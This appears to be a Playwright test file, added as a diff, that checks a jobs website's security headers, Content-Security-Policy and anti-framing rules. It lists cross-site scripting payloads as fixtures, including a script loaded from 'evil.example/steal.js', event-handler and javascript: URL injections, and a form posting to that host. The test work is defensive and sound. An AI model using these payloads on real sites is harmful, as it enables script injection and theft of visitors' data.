@@ -1,0 +1,210 @@
+import { expect, test, type Page } from '@playwright/test'
+import { sitePages } from '../../lib/routes.ts'
+import { lake } from './lake.ts'
+import { emptyOutbox } from './mail.ts'
+import { openDocument } from './studio.ts'
+
+/** What the browser is told about safety, and that it holds. `lib/security` says why each rule is there. */
+
+const addresses = [
+  ...sitePages.map(({ path }) => path),
+  '/blog/hiring-bilingual-reps',
+  '/no-such-page',
+  '/feed.xml',
+  '/sitemap.xml',
+  '/robots.txt',
+  '/favicon.svg',
+  '/studio',
+  '/studio/structure',
+  '/api/revalidate',
+  '/api/draft-mode/enable',
+  '/api/media/none.png',
+  '/api/no-such-call',
+]
+
+const policyOf = (answer: Response) =>
+  Object.fromEntries(
+    (answer.headers.get('content-security-policy') ?? '').split('; ').map((directive) => {
+      const [name = '', ...sources] = directive.split(' ')
+      return [name, sources]
+    }),
+  )
+
+/** Everything the browser refused on policy grounds, the console's errors included. */
+async function refusals(page: Page): Promise<string[]> {
+  const seen: string[] = []
+  await page.exposeFunction('__refused', (what: string) => seen.push(what))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      const tell = (window as unknown as { __refused: (what: string) => void }).__refused
+      tell(`${effectiveDirective} ${blockedURI} ${sample}`)
+    })
+  })
+  page.on('console', (message) => {
+    if (message.type() === 'error') seen.push(message.text())
+  })
+  page.on('pageerror', (error) => seen.push(error.message))
+  return seen
+}
+
+test('every answer carries the safety headers', async ({ baseURL }) => {
+  for (const address of addresses) {
+    const answer = await fetch(new URL(address, baseURL), { redirect: 'manual' })
+    const { headers } = answer
+    expect(headers.get('x-content-type-options'), address).toBe('nosniff')
+    expect(headers.get('referrer-policy'), address).toBe('strict-origin-when-cross-origin')
+    expect(headers.get('cross-origin-opener-policy'), address).toBe('same-origin')
+    expect(headers.get('permissions-policy'), address).toContain('camera=()')
+    expect(headers.get('x-powered-by'), address).toBeNull()
+    const policy = policyOf(answer)
+    expect(policy['frame-ancestors'], address).toEqual([address.startsWith('/api/') ? "'none'" : "'self'"])
+    for (const [name, sources] of Object.entries(policy)) {
+      if (!name.startsWith('style-')) expect(sources, `${address} ${name}`).not.toContain("'unsafe-inline'")
+      expect(sources, `${address} ${name}`).not.toContain("'unsafe-eval'")
+    }
+  }
+})
+
+test('every page names its scripts before the first of them', async ({ baseURL }) => {
+  const read = async (path: string) => (await fetch(new URL(path, baseURL))).text()
+  const pages = await Promise.all(
+    [...sitePages.map(({ path }) => path), '/blog/hiring-bilingual-reps', '/no-such-page', '/500'].map(read),
+  )
+  for (const html of pages) {
+    const [, policy = ''] =
+      /<meta http-equiv="Content-Security-Policy" content="(script-src [^"]*)"/.exec(html) ?? []
+    expect(policy).toMatch(/^script-src &#x27;self&#x27;( &#x27;sha256-[\w+/]{43}=&#x27;){3}$/)
+    expect(html.indexOf(policy)).toBeLessThan(html.indexOf('<script'))
+  }
+})
+
+test('what visitors do breaks no rule', async ({ page }) => {
+  const refused = await refusals(page)
+  await page.setViewportSize({ width: 390, height: 844 })
+  await page.goto('/')
+  await page.getByRole('button', { name: 'Open menu' }).click()
+  await page.getByRole('button', { name: 'Close menu' }).click()
+  await page.getByRole('group', { name: 'Reviews' }).scrollIntoViewIfNeeded()
+  await page.getByRole('button', { name: 'Next reviews' }).click()
+  await page.goto('/job-seeker?location=tampa')
+  await page.getByRole('button', { name: 'Find Jobs' }).click()
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Our Blog' }).click()
+  await page.getByRole('link', { name: /^Read Full Article/ }).click()
+  await expect(page.getByRole('link', { name: 'Back to Blog' })).toBeVisible()
+  await page.getByRole('contentinfo').getByRole('link', { name: 'FAQ' }).click()
+  await page.locator('summary').nth(1).click()
+  await page.goto('/contact-us')
+  await page.getByRole('radio', { name: 'Employer' }).check()
+  for (const [label, answer] of [
+    ['First name', 'Ana'],
+    ['Last name', 'Ruiz'],
+    ['Email', 'ana@example.com'],
+    ['Phone number', '(813) 555-0142'],
+    ['Comment', 'Evenings only.'],
+  ] as const)
+    await page.getByRole('textbox', { name: label }).fill(answer)
+  await page.getByRole('button', { name: /^Send/ }).click()
+  await expect(page.getByText("Message sent successfully! We'll get back to you soon.")).toBeVisible()
+  await emptyOutbox()
+  expect(refused).toEqual([])
+})
+
+test('the Studio and a page in draft mode break no rule', async ({ page, baseURL }) => {
+  const refused = await refusals(page)
+  await openDocument(page, 'aboutPage', 'aboutPage', 'hero.heading')
+  // With a lake of our own the Studio is kept from calling Sanity, which it then complains about.
+  expect(refused.filter((what) => /^(script|style|font|img|worker|frame)-src/.test(what))).toEqual([])
+  refused.length = 0
+  const secret = `safety-${Date.now()}`
+  const { _id } = await lake.create({
+    _type: 'sanity.previewUrlSecret',
+    secret,
+    source: 'sanity/presentation',
+  })
+  const preview = new URL('/api/draft-mode/enable', baseURL)
+  preview.searchParams.set('sanity-preview-secret', secret)
+  preview.searchParams.set('sanity-preview-pathname', '/about-us')
+  await page.goto(preview.href)
+  await expect(page).toHaveURL('/about-us')
+  await expect(page.getByRole('status').filter({ hasText: 'You are looking at drafts' })).toBeVisible()
+  await expect(page.locator('sanity-visual-editing')).toBeAttached()
+  await page.getByRole('heading', { level: 1 }).hover()
+  await lake.delete(_id)
+  expect(refused).toEqual([])
+})
+
+/** Markup as it would look had somebody got it into a page. Each sets `window.__ran` if it runs. */
+const injected = [
+  '<script>window.__ran="script"</script>',
+  '<script src="data:text/javascript,window.__ran=%22data%22"></script>',
+  '<script src="https://evil.example/steal.js"></script>',
+  '<img src="/none.png" onerror="window.__ran=\'handler\'">',
+  '<svg onload="window.__ran=\'svg\'"></svg>',
+  '<iframe srcdoc="<script>parent.__ran=\'frame\'</script>"></iframe>',
+  '<iframe src="javascript:parent.__ran=1"></iframe>',
+  '<object data="data:text/html,<script>parent.__ran=1</script>"></object>',
+  '<base href="https://evil.example/">',
+  '<a id="lure" href="javascript:void(window.__ran=\'link\')">Press</a>',
+  '<form id="trap" action="https://evil.example/"><button>Send</button></form>',
+]
+
+test('markup that somebody slipped into a page runs nothing and sends nothing away', async ({ page }) => {
+  const asked: string[] = []
+  await page.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url())
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.__ran="evil"' })
+  })
+  await page.route('**/faq', async (route) => {
+    const answer = await route.fetch()
+    const body = (await answer.text()).replace('<footer', `${injected.join('')}<footer`)
+    await route.fulfill({ response: answer, body })
+  })
+  // Without the page's own scripts, which would draw the page anew when they find foreign markup in it.
+  await page.route('**/_next/static/**', (route) => route.abort())
+  await page.goto('/faq')
+  await expect(page.locator('#lure')).toBeAttached()
+  await page.locator('#lure').evaluate((link: HTMLElement) => link.click())
+  await page.locator('#trap button').evaluate((button: HTMLElement) => button.click())
+  expect(await page.evaluate(() => (window as { __ran?: string }).__ran)).toBeUndefined()
+  expect(await page.evaluate(() => document.baseURI)).toContain('/faq')
+  expect(new URL(page.url()).pathname).toBe('/faq')
+  expect(asked).toEqual([])
+})
+
+test('code from text does not run, in a page or by way of a timer', async ({ page }) => {
+  await page.goto('/about-us')
+  const tried = await page.addScriptTag({ url: '/favicon.svg' }).then(
+    () => 'ran',
+    () => 'refused',
+  )
+  expect(tried, 'a picture taken for a script').toBe('refused')
+  const refusal = await page.evaluate(
+    () =>
+      new Promise<string>((done) => {
+        document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective))
+        const script = document.createElement('script')
+        script.textContent = 'window.__ran=1'
+        document.head.append(script)
+      }),
+  )
+  expect(refusal).toBe('script-src-elem')
+})
+
+test('another site cannot show ours in a frame, and it is the policy that forbids it', async ({
+  page,
+  baseURL,
+}) => {
+  await page.route('http://stranger.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/contact-us"></iframe>` }),
+  )
+  const framed = page.frameLocator('iframe').getByRole('heading', { level: 1 })
+  await page.goto('http://stranger.example/')
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
+  await expect(framed).toHaveCount(0)
+  await page.route('**/contact-us', async (route) => {
+    const answer = await route.fetch()
+    await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
+  })
+  await page.goto('http://stranger.example/')
+  await expect(framed).toBeVisible()
+})
